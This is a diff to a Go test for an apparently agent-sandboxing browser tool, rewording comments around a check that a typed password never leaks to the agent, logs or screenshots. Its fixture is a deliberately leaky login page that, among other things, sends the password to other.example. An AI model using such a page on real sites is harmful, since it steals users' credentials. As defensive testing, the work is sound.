@@ -22,8 +22,8 @@ import (
 	"belljar.dev/internal/testenv"
 )
 
-// leakyPage is a login that shows what is typed wherever a page can, in red. The red square says
-// that a picture shows the page.
+// leakyPage is a login that shows what is typed in every place where a page can, in red.
+// The red square proves that a picture shows the page.
 const leakyPage = `<!doctype html><title>Login</title><label>Password <input type=password id=p></label>
 <button onclick="alert('alert ' + p.value)">Alert</button> <button onclick="window.open('/child?v=' + encodeURIComponent(p.value))">Window</button>
 <button onclick="location = '/file/' + encodeURIComponent(p.value)">File</button> <button onclick="location = 'http://other.example/?' + encodeURIComponent(p.value)">Leave</button>
@@ -42,8 +42,8 @@ p.addEventListener("input", () => {
 });
 </script>`
 
-// leaky is a site with that page, which sends a secret back in the body, the headers and the
-// names of its answers, too. It notes what it is sent in a sink.
+// leaky starts a site with that page. The site also sends a secret back in the body, the
+// headers and the names of its answers. It notes its requests in a sink.
 func leaky(t *testing.T, found *sinks) *httptest.Server {
 	t.Helper()
 	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -88,9 +88,10 @@ func redIn(t *testing.T, picture []byte) (n int) {
 	return n
 }
 
-// TestBrowserSecretsGoNowhere: a secret that an agent typed into a page, which shows it wherever
-// it can, is in nothing that the agent, people, hooks, other boxes and readers of logs, records
-// and pictures get, and in no file of the server (BR28, BR29). The site alone has it.
+// TestBrowserSecretsGoNowhere checks a secret that an agent typed into a page that shows it
+// wherever a page can. It is in nothing that the agent, people, hooks, other boxes and
+// readers of logs, records and pictures get, and in no file of the server (BR28, BR29).
+// Only the site has it.
 func TestBrowserSecretsGoNowhere(t *testing.T) {
 	testenv.Need(t, testenv.UserNamespaces, testenv.Bash, testenv.Chromium)
 	const value = "CanaryMMMM-7hunter2Ww"
@@ -231,7 +232,8 @@ rules:
 	found.addFiles(t, "hooks", hooked)
 	found.addFiles(t, "workspace", p.ws)
 
-	// The control: the page had the secret and showed it, and each sink was really looked at.
+	// The control: the page had the secret and showed it, and each sink was really
+	// examined.
 	for sink, want := range map[string]string{
 		"site": "X-Echo: " + value, "answer: fill": "(secret pw)", "answer: look at page": "(secret pw)", "answer: look at text": "(secret pw)", "answer: look at console": "(secret pw)", "answer: look at network": "(secret%20pw)",
 		"answer: look at tabs": "(secret%20pw)", "answer: look at paget2": "(secret pw)", "answer: look at consolet2": "(secret pw)", "answer: look at networkt2": "(secret%20pw)", "answer: look at downloads": "(secret pw)", "answer: alert": "(secret pw)",
@@ -245,7 +247,8 @@ rules:
 	shown := 0
 	pictures.Range(func(of, red any) bool {
 		shown++
-		// The square alone has 1,600, and what is small and red beside it some hundred.
+		// The square has 1,600 red pixels, and small red things next to it have some
+		// hundred.
 		if n, _ := red.(int); n < 1000 || n > 4000 {
 			t.Errorf("the picture %v has %d red pixels", of, n)
 		}
